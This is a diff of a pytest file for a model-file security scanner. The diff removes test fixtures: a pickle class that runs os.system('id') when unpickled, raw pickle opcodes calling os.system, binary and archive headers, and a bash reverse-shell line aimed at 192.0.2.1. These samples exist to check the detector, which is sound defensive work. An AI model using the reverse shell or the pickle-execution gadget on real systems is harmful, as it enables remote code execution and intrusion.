@@ -3,18 +3,6 @@
 from __future__ import annotations
 
 import base64
-import bz2
-import gzip
-import io
-import lzma
-import os
-import pickle
-import py_compile
-import struct
-import tarfile
-import zipfile
-import zlib
-from collections.abc import Callable
 from pathlib import Path
 
 import numpy as np
@@ -22,105 +10,13 @@ import onnx
 import pytest
 from onnx import TensorProto, helper
 
-from sandbox import assets
 from sandbox.inspect import bytes as content
 from sandbox.inspect import payloads
 from tests import static_world as world
-from tests.static_world import Recorder, inspected
+from tests.payloads import PAYLOADS, elf, told
+from tests.static_world import inspected
 
 pytestmark = pytest.mark.hostile
-
-
-class Evil:
-    """Unpickling it would run a command."""
-
-    def __reduce__(self) -> tuple[object, tuple[str]]:
-        return os.system, ("id",)
-
-
-def elf() -> bytes:
-    """Return the header of a shared object, 64 bits, x86-64."""
-    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(40)
-
-
-def windows() -> bytes:
-    """Return MZ and PE headers of an x86-64 program."""
-    dos = (b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(44) + (128).to_bytes(4, "little")).ljust(128, b"\0")
-    return dos + b"PE\0\0" + struct.pack("<HH12xHHH", 0x8664, 6, 240, 0x22, 0x20B) + bytes(222)
-
-
-def macos() -> bytes:
-    """Return the header of an arm64 Mach-O program."""
-    return struct.pack("<IIIIIIII", 0xFEEDFACF, 0x100000C, 0, 2, 17, 1500, 0, 0)
-
-
-def java() -> bytes:
-    """Return the header of a class file of Java 17."""
-    return b"\xca\xfe\xba\xbe" + struct.pack(">HHH", 0, 61, 20) + b"\x0a\0\x02\0\x03" + bytes(40)
-
-
-def seven_zip() -> bytes:
-    """Return the start header of an empty 7z archive."""
-    return b"7z\xbc\xaf\x27\x1c\0\x04" + zlib.crc32(bytes(20)).to_bytes(4, "little") + bytes(20)
-
-
-def zipped(name: str = "evil.py", method: int = zipfile.ZIP_DEFLATED) -> bytes:
-    """Return a zip archive with one member."""
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w", method) as archive:
-        archive.writestr(name, b"import os\n" * 20)
-    return out.getvalue()
-
-
-def tarred() -> bytes:
-    """Return a tar archive with one member."""
-    out = io.BytesIO()
-    with tarfile.open(fileobj=out, mode="w") as archive:
-        member = tarfile.TarInfo("evil.sh")
-        member.size = 3
-        archive.addfile(member, io.BytesIO(b"id\n"))
-    return out.getvalue()
-
-
-def objects() -> bytes:
-    """Return a NumPy file of Python objects."""
-    out = io.BytesIO()
-    np.save(out, np.array([{}, 1], object), allow_pickle=True)
-    return out.getvalue()
-
-
-PAYLOADS: dict[str, tuple[Callable[[], bytes], str]] = {
-    "elf": (elf, "executable"),
-    "elf-without-version": (
-        lambda: b"\x7fELF" + struct.pack("<12xHH34xHH6x", 2, 62, 56, 9),
-        "executable",
-    ),
-    "compiled-python": (lambda: b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(40), "executable"),
-    "windows": (windows, "executable"),
-    "macos": (macos, "executable"),
-    "java": (java, "executable"),
-    "wasm": (lambda: b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0" + bytes(20), "executable"),
-    "zip": (zipped, "archive"),
-    "zip-stored": (lambda: zipped(method=zipfile.ZIP_STORED), "archive"),
-    "tar": (tarred, "archive"),
-    "gzip": (lambda: gzip.compress(bytes(99)), "archive"),
-    "gzip-text": (lambda: gzip.compress(PROSE.encode() * 40), "archive"),
-    "xz": (lambda: lzma.compress(b"payload" * 9), "archive"),
-    "bzip2": (lambda: bz2.compress(b"payload" * 9), "archive"),
-    "7z": (seven_zip, "archive"),
-    "rar": (lambda: b"Rar!\x1a\x07\x01\0" + bytes(40), "archive"),
-    "torch": (lambda: zipped("model/data.pkl", zipfile.ZIP_STORED), "pickle"),
-    **{f"pickle-{number}": (lambda number=number: pickle.dumps(Evil(), number), "pickle") for number in range(6)},
-    "pickle-data": (lambda: pickle.dumps([1] * 40, 4), "pickle"),
-    "pickle-old-data": (lambda: pickle.dumps({"a": [1, 2, 3] * 9}, 2), "pickle"),
-    "numpy-objects": (objects, "pickle"),
-    "script": (lambda: b"#!/bin/sh\nid\n", "script"),
-    "command": (lambda: b"x = os.system('id')", "script"),
-    "shell": (lambda: b"bash -i >& /dev/tcp/192.0.2.1/443 0>&1", "script"),
-    "elf-base64": (lambda: base64.b64encode(elf()), "executable"),
-    "pickle-base64": (lambda: base64.b64encode(pickle.dumps(Evil(), 4)), "pickle"),
-}  # fmt: skip
-PROSE = "It was the best of times, it was the worst of times, it was the age of wisdom. "
 
 
 def model(raw: bytes = b"", **metadata: str) -> onnx.ModelProto:
@@ -132,16 +28,6 @@ def model(raw: bytes = b"", **metadata: str) -> onnx.ModelProto:
     made = helper.make_model(graph, ir_version=8, opset_imports=[helper.make_opsetid("", 13)])
     helper.set_model_props(made, metadata)
     return made
-
-
-def told(recorder: Recorder) -> list[tuple[str, str, str]]:
-    """Return kind, place and message of each payload."""
-    problems = [one for frame in recorder.frames.values() for one in frame.get("problems", ())]
-    return [
-        (one["code"].removeprefix("payload/"), one["where"], one["message"])
-        for one in problems
-        if one["code"].startswith("payload/")
-    ]
 
 
 def noise(size: int) -> bytes:
@@ -305,101 +191,3 @@ def test_a_mark_without_evidence_gets_no_name(tmp_path: Path, mark: bytes) -> No
     for seed in range(4):
         fill = np.random.default_rng(seed).bytes(9000)
         assert told(inspected(tmp_path, model(mark + fill[:5000] + mark + fill))) == []
-
-
-# -- files that no model reads
-
-
-def looked_at(root: Path, gaps: dict[str, list[list[int]]] | None = None, **files: bytes) -> Recorder:
-    """Write files (``__`` for a dot) and run the assets job over them."""
-    names = {name.replace("__", "."): data for name, data in files.items()}
-    for name, data in names.items():
-        (root / name).write_bytes(data)
-    spec = {"root": str(root), "files": [name for name in names if name not in (gaps or {})], "gaps": gaps or {}}
-    return world.recorded(assets.body, spec)
-
-
-def compiled(root: Path) -> bytes:
-    """Return compiled Python."""
-    source = root / "source"
-    source.write_text("import os\n")
-    target = py_compile.compile(str(source), cfile=str(root / "compiled"), doraise=True)
-    assert target is not None
-    return Path(target).read_bytes()
-
-
-@pytest.mark.parametrize("name", [name for name in PAYLOADS if name not in {"command", "shell"}])
-def test_a_payload_as_a_file_whatever_its_name(tmp_path: Path, name: str) -> None:
-    payload, kind = PAYLOADS[name][0](), PAYLOADS[name][1]
-    found = told(looked_at(tmp_path, labels__txt=payload))
-    assert (kind, "labels.txt") in {(one, where) for one, where, _ in found}, found
-
-
-def test_code_as_a_file(tmp_path: Path) -> None:
-    found = told(
-        looked_at(
-            tmp_path,
-            tokenizer__py=b"# comment\nimport torch\n\ndef run(x):\n    return x\n",
-            merges__txt=b"import os\nfrom sys import argv\nos.system('id')\n",
-            setup__bat=b"echo hello\r\n",
-            cached__bin=compiled(tmp_path),
-        )
-    )
-    assert {(kind, where) for kind, where, _ in found} == {
-        ("script", "tokenizer.py"),
-        ("script", "merges.txt"),
-        ("script", "setup.bat"),
-        ("executable", "cached.bin"),
-    }
-
-
-def test_ordinary_files_are_no_payload(tmp_path: Path) -> None:
-    numbers = io.BytesIO()
-    np.save(numbers, np.arange(1000.0))
-    found = looked_at(
-        tmp_path,
-        README__md=b"# Model\n\n```sh\n#!/bin/sh\n/bin/sh -c id\n```\n\n```python\nimport os\nos.system('')\n```",
-        tokenizer__json=b'{"version": "1.0", "vocab": {"import": 1, "class": 2, "#!/bin/sh": 3}}',
-        labels__txt="cat\ndog\nimport\nclass A\nÄther\n".encode(),
-        LICENSE=b"Apache License\nhttps://www.apache.org/licenses/\n",
-        mean__npy=numbers.getvalue(),
-        empty=b"",
-    )
-    assert told(found) == []
-    assert found.frames["assets"]["files"] == 6
-
-
-def test_bytes_between_tensors_that_are_not_zero(tmp_path: Path) -> None:
-    data = bytes(100) + b"\0\0hidden" + bytes(92) + bytes(100)
-    found = looked_at(tmp_path, gaps={"w.bin": [[0, 100], [100, 200], [200, 300]]}, w__bin=data)
-    frame = found.frames["assets"]
-    assert frame["gaps_read"] == 3
-    (gap,) = frame["gaps"]
-    assert (gap["start"], gap["at"], gap["head"][:8]) == (100, 102, b"hid".hex(" "))
-
-
-@pytest.mark.parametrize(
-    "raw",
-    [
-        b"ctimeit\ntimeit\n(S'id'\ntR.",
-        b"(S'id'\nitimeit\ntimeit\n.",
-        b"X\x02\0\0\0osX\x06\0\0\0system\x93(S'id'\ntR.",
-        b"Vos\nVsystem\n\x93(Vid\ntR.",
-    ],
-    ids=["global", "inst", "stack-global", "stack-global-lines"],
-)
-def test_a_file_that_is_a_pickle_without_a_mark(raw: bytes) -> None:
-    scanner = payloads.Scanner(content.BytesSource(raw))
-    content.read(content.BytesSource(raw), [scanner])
-    scanner.begins(0)
-    assert [(hit.code, hit.at) for hit in scanner.hits] == [("payload/pickle", 0)]
-
-
-@pytest.mark.parametrize(
-    "raw", [b"cat\ndog\nbird\n.\n", b"cat\ndog\n.", b"I1\n.", b"import os\n", b"(a)\n."], ids=range(5)
-)
-def test_a_list_of_words_is_no_pickle(raw: bytes) -> None:
-    scanner = payloads.Scanner(content.BytesSource(raw))
-    content.read(content.BytesSource(raw), [scanner])
-    scanner.begins(0)
-    assert scanner.hits == []
